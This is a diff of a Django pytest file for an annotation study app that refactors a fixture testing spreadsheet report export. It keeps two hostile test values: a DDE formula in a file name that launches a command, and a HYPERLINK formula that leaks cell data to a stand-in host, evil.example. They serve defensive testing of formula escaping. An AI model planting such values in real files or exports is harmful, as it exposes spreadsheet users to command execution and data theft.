@@ -11,7 +11,6 @@ import csv
 import io
 
 import pytest
-from django.conf import settings
 from django.contrib.auth import get_user_model
 
 from annotation.csv_io import ratings_csv_import
@@ -19,10 +18,9 @@ from annotation.ingest import Source
 from annotation.models import StudyMembership
 from annotation.services import assignment_flag, images_import, membership_add, rating_submit, study_create, study_open
 from core.spreadsheet import DANGEROUS_FIRST
-from scoring.model.heads import paper_head
-from scoring.models import ModelVersion, Prediction
 from tests.api_support import API, api_client
 from tests.conftest import COHEN_VALUES, png_bytes
+from tests.security_support import active_model_with_predictions
 
 HOSTILE_FILENAME = "=1+1*cmd|' /C calc'!A0.png"
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -49,17 +47,7 @@ def hostile_study(personas, django_capture_on_commit_callbacks):
             assignment_flag(assignment=assignment, reason="other", note=HOSTILE_NOTE)
         else:
             rating_submit(assignment=assignment, values=COHEN_VALUES, reading_time_s=12.5)
-    version = ModelVersion.objects.create(
-        study=study,
-        number=1,
-        backbone=settings.SCORING_XRV_WEIGHTS,
-        feature_set="lung_opacity",
-        head=paper_head().to_dict(),
-        source="test",
-        is_active=True,
-    )
-    for case in study.cases.all():
-        Prediction.objects.create(case=case, model_version=version, values={"geographic_extent": -0.5, "opacity": 1})
+    active_model_with_predictions(study, values={"geographic_extent": -0.5, "opacity": 1})
     with django_capture_on_commit_callbacks(execute=True):
         assert api_client(alice).post(f"{API}/studies/hostile/report/", format="json").status_code in (200, 202)
     return study
